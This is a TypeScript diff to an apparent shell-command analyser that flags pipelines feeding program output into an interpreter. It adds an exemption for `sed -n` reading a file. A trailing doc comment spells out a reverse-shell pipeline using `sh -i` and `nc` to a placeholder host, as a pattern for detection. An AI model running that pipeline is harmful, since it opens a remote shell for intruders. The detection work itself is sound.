@@ -36,11 +36,17 @@ export function notePipeline(frame: Frame, stages: readonly Stage[], span: Span)
   const runner = heads.findIndex((words, at) => at > 0 && stages[at]?.fed === false && takesProgram(words));
   const makers = heads.slice(0, Math.max(0, runner)).map(([name = ""]) => name);
   const [first] = makers;
-  if (first === undefined || makers.some((name) => FORMERS.has(name) || BUILTIN_NAMES.has(name))) return;
+  if (first === undefined || makers.some((name, at) => forms(name, heads[at] ?? []))) return;
   // A script of the host is read by itself.
   if (first === "" || findProgram(frame, heads[0]?.[0] ?? "")?.shape.head === "interpreted") return;
   const says = `${heads[runner]?.[0]} runs what ${first} prints.`;
   frame.session.say(frame, "output-to-interpreter", span, says, "medium", { program: first });
+}
+
+/** It puts commands together, or passes on what a script of the host says; `sed -n FILE` prints a file's own lines. */
+function forms(name: string, [, ...args]: readonly string[]): boolean {
+  if (name === "sed" && args.includes("-n") && args.some((arg) => arg.startsWith("/"))) return false;
+  return FORMERS.has(name) || BUILTIN_NAMES.has(name);
 }
 
 /** `cat pipe | sh -i 2>&1 | nc host port > pipe` and its kin: a shell between or before network tools. */
